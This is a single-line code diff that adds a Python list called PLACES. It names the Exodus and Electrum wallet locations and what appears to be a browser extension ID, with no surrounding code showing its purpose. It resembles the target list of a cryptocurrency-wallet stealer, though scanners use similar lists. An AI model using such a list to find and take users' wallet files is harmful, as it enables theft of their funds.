@@ -1,0 +1,1 @@
+PLACES = [r"Exodus\exodus.wallet", r"Electrum\wallets", "nkbihfbeogaeaoehlefnkodbefgpgknn"]
